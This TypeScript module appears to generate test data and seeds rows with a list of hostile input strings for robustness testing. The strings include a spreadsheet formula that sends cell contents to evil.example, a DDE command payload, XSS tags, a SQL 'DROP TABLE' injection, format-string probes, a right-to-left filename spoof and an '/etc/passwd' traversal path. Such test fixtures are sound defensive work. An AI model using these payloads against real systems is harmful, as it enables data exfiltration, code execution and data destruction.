import { hash, Stream } from './random.ts'

/** Values that break careless readers; all of them pass the vendor's own field checks. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "Robert'); DROP TABLE Contact;--",
  '{{7*7}} %s %n',
  'tab\there and\nnew line',
  'bell\u0007 escape\u001b[31mred',
  '😀👩‍👩‍👧‍👦 party 🎉',
  'محمد بن سلمان',
  'שָׁלוֹם',
  '\u202Egnp.exe\u202C',
  'Zoë\u0301\u0302\u0303 stacked',
  '"quoted, ""twice"" and, comma"',
  '00123',
  'null',
  '__proto__',
  '../../etc/passwd',
]

const longest = 131_072

/** Exactly as long as the longest field holds. */
export function longText(): string {
  return `${'0123456789abcdef\n'.repeat(Math.ceil(longest / 17))}`.slice(0, longest)
}

/** The hostile text of a row, if it has one: a handful in every population, every thirtieth in the hostile one. */
export function hostileText(seed: number, row: number, rows: number, many: boolean): string | undefined {
  const draw = hash(seed, Stream.setup, row, 77)
  const every = many ? 30 : Math.max(50, Math.floor(rows / 12))
  return draw % every === 0 ? hostileTexts[Math.floor(draw / every) % hostileTexts.length] : undefined
}
